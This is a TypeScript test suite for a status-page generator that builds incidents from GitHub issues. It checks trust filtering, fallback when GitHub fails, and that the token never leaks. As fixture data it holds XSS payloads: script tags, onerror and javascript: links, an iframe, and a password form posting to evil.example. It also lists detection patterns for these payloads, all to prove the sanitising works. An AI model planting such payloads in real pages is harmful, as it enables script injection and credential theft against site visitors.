import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { allFiles, buildSite, withBuiltSite, type BuiltSite } from '../support/build-site.ts';
import { fakeGithubEnv, startFakeGithub, type FakeGithub, type FakeIssue } from '../support/fake-github.ts';

const TOKEN = 'ghs_SecretTokenForTests0123456789';
const NOW = '2026-11-20T15:00:00Z';

const files = {
  'content/site.yaml': 'name: Fixture Cloud\nurl: https://status.fixture.example\ngithub:\n  repo: octo/status\n',
  'content/components.yaml': '- id: api\n  name: Public API\n- id: web\n  name: Web app\n',
  'incidents/old-outage.md': '---\ntitle: An old Markdown outage\ncomponents: [web]\nstarted: 2026-11-01T10:00:00Z\nresolved: 2026-11-01T11:00:00Z\n---\n',
};

const HOSTILE = [
  '<script>alert("xss-script")</script>', '<img src=x onerror="alert(1)">', '<a href="javascript:alert(2)">click me</a>',
  '<iframe src="https://evil.example/frame"></iframe>', '<form action="https://evil.example/steal"><input name="pw"></form>',
  '<div style="position:fixed;inset:0;background:red">covered</div>', '[link](javascript:alert(3))',
].join('\n\n');

const issues: FakeIssue[] = [
  {
    number: 1, title: 'Elevated API errors', labels: ['incident'], createdAt: '2026-11-20T14:00:00Z',
    body: '### Impact\n\nmajor\n\n### Components\n\nPublic API\n\n### Scope\n\nWrites to the API fail.\n\n### Affected\n\n_No response_',
    comments: [
      { body: '/status identified\nA faulty deploy; rolling back.', createdAt: '2026-11-20T14:20:00Z', authorAssociation: 'MEMBER' },
      { body: 'Everything is fine, ignore them — a stranger', createdAt: '2026-11-20T14:25:00Z', authorAssociation: 'NONE' },
      ...Array.from({ length: 130 }, (_, i) => ({ body: `Routine check ${i + 1}`, createdAt: `2026-11-20T14:3${i % 10}:${String(i % 60).padStart(2, '0')}Z`, authorAssociation: 'OWNER' })),
    ],
  },
  { number: 2, title: 'Web app slow yesterday', labels: ['incident'], state: 'CLOSED', stateReason: 'COMPLETED', createdAt: '2026-11-19T08:00:00Z', closedAt: '2026-11-19T09:00:00Z', body: '### Components\n\nweb' },
  { number: 3, title: 'Withdrawn false alarm', labels: ['incident'], state: 'CLOSED', stateReason: 'NOT_PLANNED', createdAt: '2026-11-20T13:00:00Z', closedAt: '2026-11-20T13:05:00Z' },
  { number: 4, title: 'Fake outage by a stranger', labels: ['incident'], authorAssociation: 'NONE', body: '### Impact\n\ncritical' },
  { number: 5, title: 'Support hours change this week', pinned: true, authorAssociation: 'OWNER', body: 'Our support desk closes early.' },
  { number: 6, title: 'Hostile <script>alert("title")</script> markup', labels: ['incident'], createdAt: '2026-11-20T14:30:00Z', body: HOSTILE },
  { number: 7, title: 'Half-filled form', labels: ['incident'], createdAt: '2026-11-20T14:40:00Z', body: '### Impact\n\nhuge\n\n### Scope\n\nLogins are slow.' },
];

const githubEnv = (fake: FakeGithub) => fakeGithubEnv(fake, TOKEN);

describe('a site built from GitHub issues', () => {
  let github: FakeGithub;
  let site: BuiltSite & { ok: boolean };
  let dist: { file: string; text: string }[];
  beforeAll(async () => {
    github = await startFakeGithub({ owner: 'octo', name: 'status', issues });
    site = await buildSite({ files }, { now: NOW, env: githubEnv(github) });
    if (!site.ok) throw new Error(site.log);
    dist = await allFiles(site.outDir);
  });
  afterAll(async () => {
    await github?.close();
    await site?.cleanup();
  });

  it('shows the open labelled issue as an active incident, with its fields and maintainer updates', async () => {
    const home = await site.read('index.html');
    expect(home).toContain('Elevated API errors');
    expect(home).toContain('Writes to the API fail.');
    expect(home).not.toContain('All Systems Operational');
    const page = await site.read('incidents/issue-1/index.html');
    expect(page).toContain('A faulty deploy; rolling back.');
    expect(page).toContain('Routine check 130');
  });

  it('shows the pinned issue as a current notice, and the closed one in history', async () => {
    expect(await site.read('index.html')).toContain('Support hours change this week');
    expect(await site.read('history/index.html')).toContain('Web app slow yesterday');
  });

  it('merges GitHub incidents with the Markdown ones', async () => {
    expect(await site.read('history/index.html')).toContain('An old Markdown outage');
  });

  it('keeps untrusted issues and comments, and withdrawn issues, out of every file', () => {
    for (const secret of ['Fake outage by a stranger', 'Everything is fine, ignore them', 'Withdrawn false alarm']) {
      expect(dist.filter((f) => f.text.includes(secret)).map((f) => f.file)).toEqual([]);
    }
  });

  it('renders hostile markup inert in every file', () => {
    expect(dist.some((f) => f.text.includes('covered'))).toBe(true);
    for (const pattern of [/alert\(/, /onerror/i, /javascript:/i, /<iframe/i, /<form/i, /position:\s*fixed/i, /evil\.example/]) {
      expect(dist.filter((f) => pattern.test(f.text)).map((f) => f.file), String(pattern)).toEqual([]);
    }
  });

  it('shows an issue with a field it cannot use, and names the issue in the build log', async () => {
    expect(await site.read('index.html')).toContain('Logins are slow.');
    expect(site.log).toMatch(/octo\/status#7\s+impact: must be one of none, minor, major, critical; got "huge"/);
  });

  it('counts what it left out in the build log', () => {
    expect(site.log).toMatch(/left out as untrusted[^\n]*1 issue\(s\) and 1 comment\(s\)/);
    expect(site.log).toMatch(/1 withdrawn/);
  });

  it('stays within the request budget: one page of issues plus one for the long thread', () => {
    expect(github.requests).toHaveLength(2);
  });

  it('never writes the token to the site or the log', () => {
    expect(dist.filter((f) => f.text.includes(TOKEN)).map((f) => f.file)).toEqual([]);
    expect(site.log).not.toContain(TOKEN);
  });

  it('does not claim the data is stale when GitHub answered', async () => {
    expect(await site.read('index.html')).not.toContain('GitHub data as of');
  });

  describe('built again while GitHub fails', () => {
    it.each(['server-error', 'bad-gateway-html', 'hang', 'malformed-json', 'graphql-errors', 'primary-rate-limit', 'secondary-rate-limit'] as const)(
      'after %s, uses the last good data and says how old it is',
      async (fault) => {
        github.fail(fault);
        const env = { ...githubEnv(github), ...(fault === 'hang' ? { SITREP_GITHUB_TIMEOUT_MS: '1000' } : {}) };
        const again = await buildSite({ dir: site.contentDir }, { now: '2026-11-20T15:10:00Z', env });
        github.heal();
        try {
          expect(again.ok, again.log).toBe(true);
          const home = await again.read('index.html');
          expect(home).toContain('GitHub data as of');
          expect(home).toContain('datetime="2026-11-20T15:00:00.000Z"');
          expect(home).toContain('Elevated API errors');
          expect(again.log).toMatch(/GitHub could not be read/);
          expect(again.log).not.toContain(TOKEN);
        } finally {
          await again.cleanup();
        }
      },
    );
  });
});

describe('a site whose GitHub source fails with no earlier good build', () => {
  it('fails the build, so the previous deployment stays up', async () => {
    const github = await startFakeGithub({ owner: 'octo', name: 'status', issues });
    github.fail('server-error');
    const site = await buildSite({ files }, { now: NOW, env: githubEnv(github) });
    try {
      expect(site.ok).toBe(false);
      expect(site.log).toMatch(/no last good snapshot/);
      expect(site.log).not.toContain(TOKEN);
    } finally {
      await github.close();
      await site.cleanup();
    }
  });
});

describe('a site with github: configured but no token', () => {
  it('builds from Markdown alone and says so in one line', async () => {
    await withBuiltSite({ files }, { now: NOW, env: { GITHUB_TOKEN: '', GH_TOKEN: '' } }, async (site) => {
      expect(site.ok, site.log).toBe(true);
      expect(site.log.match(/GitHub issues skipped/g)).toHaveLength(1);
      expect(await site.read('history/index.html')).toContain('An old Markdown outage');
    });
  });
});

describe('a Markdown file named like an issue', () => {
  it('fails the build naming the file and the issue', async () => {
    const github = await startFakeGithub({ owner: 'octo', name: 'status', issues });
    const site = await buildSite({ files: { ...files, 'incidents/issue-2.md': files['incidents/old-outage.md'] } }, { now: NOW, env: githubEnv(github) });
    try {
      expect(site.ok).toBe(false);
      expect(site.log).toMatch(/incidents\/issue-2\.md\s+has the id "issue-2", which GitHub issue #2 also has/);
    } finally {
      await github.close();
      await site.cleanup();
    }
  });
});
